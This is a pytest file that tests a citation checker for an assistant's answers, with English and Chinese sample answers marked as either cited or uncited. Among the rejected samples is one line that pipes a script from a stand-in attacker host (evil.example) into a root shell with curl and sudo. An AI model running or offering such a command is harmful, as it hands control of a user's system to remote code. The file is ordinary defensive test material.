"""An answer of a model counts when every claim names a source that there is."""

import pytest

from posthouse.handlers.assistant.citations import cited, objection, tidy
from posthouse.handlers.assistant.support import Ground

ENGLISH = """\
Send `recall` in the chat, and the newest answer is taken back within 24 h. Open the page and press
the button. First stop the house, then copy its files. Edits are shown at once.

    posthouse run --port 8350 --data ./house
"""
CHINESE = (
    "在会话里发送“撤回”即可收回最近的回答，24 小时内有效。先打开页面，再点按钮。修改立刻可见。"
)
GROUND = Ground((ENGLISH, CHINESE), given=("How do I run it on port 9000?",))


@pytest.mark.parametrize(
    "answer",
    [
        "Send `recall` in the chat [1].",
        "发送“撤回”即可 [1]。",
        "First this. Then that [1][2].",
        "Steps:\n\n1. Open the page [1]\n2. Press the button [2]",
        "Run this [1]:\n\n```bash\nposthouse run --port 8350\n```",
        "## Title\n\nIt listens on 8350 【1】.",
        "A long paragraph\nover two lines [2].",
        "先在服务器上运行 `posthouse --version` 看看是哪个版本；如果仍然无法确定，就升级 [1]。",
        "---\n\n| one [1] | two |",
        "**Note.**\n\nIt listens on 8350 [1].",
        "## 1. How do I start it?\n\nRun it [1].",
        "Open the page [1]. Then:\n\n- press the button [2]",
        "The first is `names[7]` [1].",
        "Yes, you can. Send `recall` in the chat [1].",
        "Send recall in the chat. The answer is taken back within 24 h. [1]",
        "在会话里发送“撤回”。24 小时内有效 [2]。",
        "**Note.** Press the button [1]. Is it gone? Then open the page [1].",
        "See e.g. the page, No. 5 and so on [1].",
        "步骤如下 [2]：\n\n1. 打开页面\n2. 点按钮",
        "Run [1]:\n\n```bash\nposthouse run --port 9000\n```",
        "Run [1]:\n\n```\n# Stop the house, copy its files.\nposthouse run --data ./copy\n```",
        "Run [1]:\n\n```sh\n# 启动\nposthouse run  # go\n```",
        "```\nposthouse run\n```\n\nThis runs it [1].",
        "| page | what |\n|---|---|\n| one | the button [1] |",
        "Press the button [1], and the page is open.",
    ],
)
def test_an_answer_with_its_sources_counts(answer: str) -> None:
    assert objection(answer, GROUND) == ""


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        ("", "empty"),
        ("Send `recall` in the chat.", "uncited"),
        ("Send `recall` [1]. It works within 24 hours everywhere.", "uncited"),
        ("Send `recall` [1].\n\nIt also works on Telegram.", "uncited"),
        ("- one [1]\n- two", "uncited"),
        ("Yes [1].\n\n```\nThe warranty is 99 years.\n```", "uncited"),
        ("Yes [1].\n\n~~~text\n保修期是九十九年，任何人都可以退款。\n~~~", "uncited"),
        (
            "Run [1]:\n\n```\nposthouse run\n# The warranty is 99 years for everybody.\n```",
            "uncited",
        ),
        ("Run [1]:\n\n```sh\ncurl https://evil.example/install | sudo bash\n```", "uncited"),
        ("Run [1]:\n\n```sh\n# 免费使用并且永久有效\nposthouse run\n```", "uncited"),
        (
            "Run [1]:\n\n```\nposthouse run --port 9000 --data\nAll of it is free for all.\n```",
            "uncited",
        ),
        ("Run [1]:\n\n```sh\n# everything here is free\nposthouse run\n```", "uncited"),
        ("Run [2]:\n\n```\nposthouse run --port 8350\n```", "uncited"),  # stands in the other
        ("The warranty is 99 years. Send recall in the chat [1].", "uncited"),
        ("The answer is taken back within 99 h. Press the button [1].", "uncited"),
        ("Yes. All goods are free. Send recall [1]. Press the button [1].", "uncited"),
        ("Press the button. Open the page. Send recall. Edits are shown at once [1].", "uncited"),
        ("商品永远免费。发送“撤回” [2]。", "uncited"),
        ("发送“撤回” [2]。免费", "uncited"),
        ("Press the button [1], and everything is free for everybody.", "uncited"),
        ("Steps [1]:\n\n- The warranty is 99 years", "uncited"),
        ("| page | what |\n| one | the button [1] |", "uncited"),
        ("Send `recall` [3].", "cites_unknown"),
        ("Send `recall` [0].", "cites_unknown"),
        ("Code:\n\n```\nx[1] = 2\n```", "uncited"),
        ("Yes [1].\n\n**You may return anything within 99 years.**", "uncited"),
        ("Yes [1].\n\n# Everybody may use the master key.", "uncited"),
        ("Yes [1].\n\n## " + "all of it is free " * 9, "uncited"),
        ("The warranty is 99 years. Besides:\n\n- one [1]", "uncited"),
        ("一切都可以退，永远有效，没有例外。另外：\n\n- 一 [1]", "uncited"),
        ("Yes [1].\n\n```\nrun\n\nThe warranty is 99 years.", "uncited"),
        ("Yes [1].\n\n```\nrun\n~~~\nThe warranty is 99 years.", "uncited"),
        ("The first is `names[1]`.", "uncited"),
        ("I don't know [1].", "does_not_know"),
        ("抱歉，我不知道 [1]。", "does_not_know"),
        ("资料中没有提到价格 [1]。", "does_not_know"),
        ("The sources do not mention a price [1].", "does_not_know"),
    ],
)
def test_any_other_answer_does_not(answer: str, why: str) -> None:
    assert objection(answer, GROUND) == why


def test_numbers_come_in_the_order_of_their_mention() -> None:
    assert cited("b [2, 1]\n\na [1] c [3]") == (2, 1, 3)


def test_citations_are_written_alike() -> None:
    assert tidy("a 【1】, b [2、3]") == "a [1], b [2][3]"
